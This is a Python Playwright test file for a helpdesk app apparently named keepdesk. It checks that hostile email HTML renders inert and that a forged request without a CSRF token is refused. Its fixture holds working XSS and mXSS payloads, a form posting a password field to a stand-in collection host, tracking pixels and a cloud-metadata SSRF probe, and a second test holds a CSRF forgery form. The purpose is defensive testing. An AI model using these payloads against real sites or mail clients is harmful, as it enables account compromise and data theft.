"""Hostile mail renders inert, and a forged change is refused, in a real Chromium.

The HTML is taken from the corpus (501: script, handlers, javascript: URLs, mXSS; 505: tracking
pixels and SSRF probes): no dialog may open and no request may go to any host but keepdesk's.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from playwright.sync_api import Page, expect

from tests.e2e import helpers
from tests.e2e.conftest import LiveServer, Watched, sign_in

HOSTILE_HTML = """\
<html><head>
<meta http-equiv="refresh" content="0;url=https://collect.example.net/phish">
<base href="https://collect.example.net/">
<script>alert('script tag')</script>
<style>body{background:url("javascript:alert('css')")} @import url(https://collect.example.net/x.css);</style>
<link rel="stylesheet" href="https://collect.example.net/leak.css">
</head><body onload="alert('body onload')">
<p>Hello agent,</p>
<img src=x onerror="alert('img onerror')">
<a href="javascript:alert('js link')">click</a>
<svg onload="alert('svg onload')"><animate attributeName="href" values="javascript:alert(1)"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style>
</mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript mXSS')>"></noscript>
<iframe src="https://collect.example.net/frame" srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="javascript:alert('object')"></object><embed src="https://collect.example.net/x.swf">
<form action="https://collect.example.net/steal"><input name="password" type="password"></form>
<details open ontoggle="alert('ontoggle')"><summary>x</summary></details>
<input autofocus onfocus="alert('autofocus')">
<p>Tracking pixel:</p><img src="https://tracker.example.net/p.gif?ticket=1234" width="1" height="1">
<img src="http://169.254.169.254/latest/meta-data/">
<img srcset="https://tracker.example.net/a.png 1x, http://127.0.0.1/b.png 2x">
<div style="background-image:url('https://tracker.example.net/bg.png')">css background</div>
<video poster="https://tracker.example.net/poster.png"></video>
<p>{{7*7}} ${7*7}</p>
</body></html>
"""


def test_a_hostile_mail_renders_inert(
    page: Page, live_server: LiveServer, watched: Watched
) -> None:
    number = live_server.run(
        lambda rt: helpers.customer_ticket(
            rt,
            subject="<img src=x onerror=alert('subject')> {{7*7}}",
            body="Plain part is harmless; the HTML part is hostile.",
            body_html=HOSTILE_HTML,
            team_id=live_server.ids["support"],
            email="mallory@example.net",
            name="<script>alert('name')</script>Mallory",
        )
    )
    sign_in(page, "dave")
    page.goto("/queue/unassigned")
    expect(page.locator("[data-row]")).to_contain_text("<img src=x onerror=alert('subject')>")
    page.goto(f"/tickets/{number}")
    expect(page.locator("h1")).to_contain_text("<img src=x onerror=alert('subject')> {{7*7}}")
    expect(page.locator("article.kind-customer .who")).to_contain_text("<script>")

    frame = page.frame_locator(f"#frame-{_first_message_id(page)}")
    expect(frame.locator("body")).to_contain_text("Hello agent")
    expect(frame.locator("body")).to_contain_text("{{7*7}} ${7*7}")
    expect(page.get_by_role("link", name="Show remote images")).to_be_visible()
    # Give the frame's document every chance to misbehave: focus and click into it.
    frame.locator("body").click()

    assert watched.dialogs == []
    # The tracking pixel and the probes were never sent: the frame's CSP blocked them.
    assert watched.elsewhere == []
    body_requests = [u for u in watched.requests if "/body" in u]
    assert body_requests and all("remote_images" not in u for u in body_requests)

    # Only when the agent asks, for this message, do remote images load (and the watch sees it).
    with page.expect_event(
        "requestfailed",
        lambda r: r.url.startswith("https://tracker.example.net/") and r.failure != "csp",
    ):
        page.get_by_role("link", name="Show remote images").click()
    assert any(u.startswith("https://tracker.example.net/") for u in watched.elsewhere)
    assert watched.dialogs == []


def _first_message_id(page: Page) -> str:
    article_id = page.locator("article.message").first.get_attribute("id") or ""
    match = re.fullmatch(r"message-(\d+)", article_id)
    assert match, article_id
    return match.group(1)


def test_a_change_without_the_csrf_token_is_refused(
    page: Page, live_server: LiveServer, watched: Watched
) -> None:
    number = live_server.run(
        lambda rt: helpers.customer_ticket(
            rt, subject="Keep me open", body="!", team_id=live_server.ids["support"]
        )
    )
    sign_in(page, "dave")
    page.goto(f"/tickets/{number}")
    # The signed-in page itself, sending a change the way a forged request would: no token.
    status = page.evaluate(
        """async (number) => {
            const body = new URLSearchParams({status: "resolved", orig_status: "new"});
            const r = await fetch(`/tickets/${number}/properties`, {method: "POST", body});
            return r.status;
        }""",
        number,
    )
    assert status == 403

    # Another site on the same host (another port: same site, so the cookie goes along) posts
    # a form at keepdesk: the browser says so, and keepdesk refuses it.
    evil = f"http://127.0.0.1:{_other_port(live_server)}/evil"
    page.route(
        evil,
        lambda route: route.fulfill(
            content_type="text/html",
            body=f'<form method="post" action="{live_server.url}/tickets/{number}/properties">'
            '<input name="status" value="resolved"><input name="orig_status" value="new">'
            '<button id="go">go</button></form>',
        ),
    )
    page.goto(evil)
    page.click("#go")
    expect(page.locator("main")).to_contain_text("not sent from a keepdesk page")
    page.goto(f"/tickets/{number}")
    expect(page.locator("#ticket_head")).to_contain_text("new")


def _other_port(live: LiveServer) -> int:
    port = urlsplit(live.url).port
    assert port is not None
    return port + 1 if port < 65535 else port - 1
